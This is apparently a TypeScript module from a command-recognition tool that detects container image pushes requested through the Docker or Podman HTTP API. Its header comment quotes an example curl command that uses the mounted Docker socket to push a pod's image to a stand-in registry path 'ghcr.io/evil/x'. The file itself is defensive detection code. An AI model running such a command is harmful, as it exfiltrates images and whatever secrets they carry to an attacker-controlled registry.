/**
 * The `engine-api-push` matcher (../types.ts PushMatcher) for ./recognize.ts: an image push asked of a
 * container engine through its HTTP API rather than its CLI. With the docker socket mounted, `curl
 * --unix-socket /var/run/docker.sock -X POST http://localhost/v1.43/images/ghcr.io/evil/x/push?tag=1` has
 * the daemon upload whatever image the pod loaded or built there, with no `docker` process to recognise.
 */
import type { ParsedArgv } from './argv.js';

/**
 * `/images/NAME/push` under an optional API version (`/v1.43/`) and Podman's `libpod/` prefix. NAME holds
 * slashes (`ghcr.io/evil/x`) or their escapes.
 */
const PUSH_PATH = /^\/(?:v\d+(?:\.\d+)*\/)?(?:libpod\/)?images\/(.+)\/push\/?$/i;

/**
 * The image a word of an HTTP client's argv asks the engine to push (`REF`, `REF:TAG` from `?tag=`, or
 * Podman's `?destination=`), or null. The word is a URL with or without its scheme: curl takes
 * `localhost/images/x/push` too, and over a unix socket the host part is any name.
 */
export function engineApiPushRef(parsed: ParsedArgv): string | null {
  const urls = parsed.flags.filter((f) => f.flag === '--url' && f.value !== null).map((f) => f.value!);
  for (const word of [...urls, ...parsed.positionals]) {
    const rest = word.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '');
    const slash = rest.indexOf('/');
    if (slash < 0) continue;
    const pathAndQuery = rest.slice(slash);
    const q = pathAndQuery.indexOf('?');
    const m = PUSH_PATH.exec(q < 0 ? pathAndQuery : pathAndQuery.slice(0, q));
    if (!m) continue;
    const query = new URLSearchParams(q < 0 ? '' : pathAndQuery.slice(q + 1));
    const destination = query.get('destination');
    if (destination) return destination;
    const name = decode(m[1]!);
    const tag = query.get('tag');
    return tag ? `${name}:${tag}` : name;
  }
  return null;
}

function decode(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s; // a malformed escape: the engine would refuse it, kept as written
  }
}
